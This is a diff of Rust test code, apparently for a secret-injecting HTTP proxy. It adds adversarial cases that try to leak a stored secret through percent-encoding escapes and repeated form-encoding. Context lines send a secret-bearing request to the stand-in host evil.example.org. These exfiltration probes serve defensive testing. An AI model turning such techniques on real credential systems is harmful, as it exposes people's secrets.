@@ -197,7 +197,7 @@ fn http_trick(trick: &str, grant: &Grant, plan: &Plan) -> Result<Minted, Error> 
     let key = |name: &str| {
         Auth::Header(HeaderKey { name: name.to_owned(), slot: "secret:HOSTILE_SOURCE".to_owned() })
     };
-    let held;
+    let mut held;
     match trick {
         "elsewhere" => request.url = "https://evil.example.org/".to_owned(),
         "plain" => request.url = "http://api.example.com/".to_owned(),
@@ -243,6 +243,18 @@ fn http_trick(trick: &str, grant: &Grant, plan: &Plan) -> Result<Minted, Error> 
             let frame = |text: &str| Chunk::Plain(text.as_bytes().to_vec());
             request.body = vec![frame("{\"you\":\"<"), Chunk::JsonSecret(&held), frame(">\"}")];
             request.lift = vec!["/you".to_owned()];
+        }
+        // The first two characters of the secret and the text before it make an escape.
+        "echo-frame" => {
+            held = identity::token("secret:HOSTILE_SOURCE", &[])?.value;
+            request.body = vec![Chunk::Plain(b"k=%2".to_vec()), Chunk::FormSecret(&held)];
+        }
+        "echo-layers" => {
+            held = identity::token("secret:HOSTILE_SOURCE", &[])?.value;
+            for _ in 0..4 {
+                held = Secret::join(&[Piece::FormSecret(&held)]);
+            }
+            request.body = vec![Chunk::Secret(&held)];
         }
         "federate" => request.lift = vec!["/you".to_owned()],
         "lift" => request.lift = vec!["/a".to_owned(); 100_000],
